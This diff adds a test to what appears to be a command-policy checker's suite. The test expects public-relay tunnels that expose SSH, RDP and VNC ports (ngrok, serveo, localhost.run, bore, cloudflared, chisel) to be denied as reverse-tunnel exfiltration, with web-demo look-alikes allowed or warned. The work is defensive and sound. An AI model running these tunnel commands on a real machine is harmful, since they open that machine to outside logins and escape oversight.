@@ -325,3 +325,25 @@ test('class 12: a search of a message, mail or document store for pasted credent
   ];
   await runTable(t, rows);
 });
+
+test("class 13: a login port published through a public relay is a way into the machine", async (t) => {
+  const rows: Row[] = [
+    [shell('ngrok tcp 22'), 'deny', 'exfiltration.reverse_tunnel'],
+    [shell('ngrok tcp 3389 --region eu'), 'deny', 'exfiltration.reverse_tunnel'],
+    [shell('ngrok tcp 5900'), 'deny', 'exfiltration.reverse_tunnel'],
+    [shell('ssh -R 2222:localhost:22 serveo.net'), 'deny', 'exfiltration.reverse_tunnel'],
+    [shell('ssh -N -R 0:localhost:22 nokey@localhost.run'), 'deny', 'exfiltration.reverse_tunnel'],
+    [shell('bore local 22 --to bore.pub'), 'deny', 'exfiltration.reverse_tunnel'],
+    [shell('cloudflared tunnel --url ssh://localhost:22'), 'deny', 'exfiltration.reverse_tunnel'],
+    [shell('cloudflared tunnel --url rdp://localhost:3389'), 'deny', 'exfiltration.reverse_tunnel'],
+    [shell('chisel client https://relay.example.net R:2222:localhost:22'), 'deny', 'exfiltration.reverse_tunnel'],
+    [shell("ngrok tcp 22 --authtoken $T >/dev/null & sleep 3; curl -s localhost:4040/api/tunnels"), 'deny', 'exfiltration.reverse_tunnel'],
+    // Look-alikes: a web demo (warned or allowed as before), a local forward, an http quick tunnel.
+    [shell('ngrok http 3000'), 'allow'],
+    [shell('ssh -R 80:localhost:3000 nokey@localhost.run'), 'warn', 'exfiltration.reverse_tunnel'],
+    [shell('ssh -L 5432:db.internal:5432 bastion.example.com'), 'allow'],
+    [shell('cloudflared tunnel --url http://localhost:8080'), 'allow'],
+    [shell('bore local 8000 --to bore.pub'), 'warn', 'exfiltration.reverse_tunnel'],
+  ];
+  await runTable(t, rows);
+});
